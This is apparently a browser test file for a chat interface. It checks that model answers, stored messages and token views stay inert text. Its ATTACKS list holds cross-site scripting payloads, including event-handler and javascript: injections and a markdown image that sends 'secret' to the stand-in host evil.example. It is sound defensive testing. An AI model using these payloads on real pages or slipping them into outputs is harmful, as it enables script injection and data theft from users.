"""Whatever a model says is text: nothing of it runs, loads or leaves."""

import pytest
from playwright.sync_api import expect

pytestmark = pytest.mark.browser

ATTACKS = [
    "<script>window.hit = 1</script>", "<img src=x onerror='window.hit = 1'>",
    "<svg onload='window.hit = 1'><script>window.hit = 1</script></svg>",
    "<svg><style><img src=x onerror='window.hit = 1'></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>",
    "<iframe srcdoc='<script>parent.hit = 1</script>'></iframe>",
    "<form action='https://evil.example'><button>Send</button></form>",
    "<a href='javascript:window.hit = 1'>click</a>", "[click](javascript:window.hit=1)",
    "[click](JaVaScRiPt&colon;window.hit=1)",
    "[click](data:text/html,<script>window.hit=1</script>)", "[click](vbscript:x)",
    "![secret](https://evil.example/?q=secret)", '![a](x"onerror="window.hit=1)',
    "```html\n<img src=x onerror='window.hit = 1'>\n```",
    '```"><img/src/onerror=window.hit=1>\ncode\n```', "<style>body { display: none }</style>",
    "<div style='position:fixed;inset:0'>cover</div>",
    "<think><img src=x onerror='window.hit = 1'></think><b onclick='window.hit=1'>x</b>",
    "[a]: javascript:window.hit=1\n\n[click][a]", "<javascript:window.hit=1>",
]  # fmt: skip


def test_nothing_a_model_says_becomes_markup(chat):
    elsewhere: list[str] = []
    chat.page.on(
        "request",
        lambda asked: None if asked.url.startswith(chat.url) else elsewhere.append(asked.url),
    )
    for attack in ATTACKS:
        chat.fake.answers["Go"] = f"Before\n\n{attack}\n\nAfter"
        chat.ask("Go")
        answer = chat.page.locator("article.answer").last
        expect(answer.locator(".prose").last).to_contain_text("Before")
        forbidden = answer.locator(
            "script, img, svg, math, iframe, form, style, object, embed, [style], [onerror], "
            "[onclick], [onload], a[href]:not([href^='http'])"
        )
        assert forbidden.count() == 0, attack
    assert chat.page.evaluate("window.hit") is None
    assert elsewhere == []


def test_what_a_user_writes_and_stores_is_text_too(chat):
    text = "<img src=x onerror='window.hit = 1'>"
    chat.ask(text)
    chat.page.reload()
    expect(chat.page.locator("#sessions .choose")).to_have_text(text)
    chat.page.locator("#sessions .choose").click()
    expect(chat.page.locator(".bubble")).to_have_text(text)
    assert chat.page.evaluate("window.hit") is None


def test_the_browser_itself_refuses_markup_and_inline_scripts(chat):
    """The control: were the sanitiser to fail, the policy would still hold."""
    refused = chat.page.evaluate(
        """() => { try { document.body.innerHTML += '<b>x</b>'; return false; }
                   catch (error) { return error instanceof TypeError; } }"""
    )
    assert refused
    chat.problems.clear()


def test_tokens_are_text(chat):
    chat.fake.answers["Go"] = "<b>bold</b><img src=x onerror='window.hit = 1'>"
    chat.press("Settings")
    chat.page.get_by_label("Keep the probability").check()
    chat.ask("Go")
    chat.press("Tokens")
    expect(chat.page.locator(".token-text")).to_have_text(chat.fake.answers["Go"])
    chat.page.locator(".token").first.hover()
    expect(chat.page.locator(".token-card b, .token-card img")).to_have_count(0)
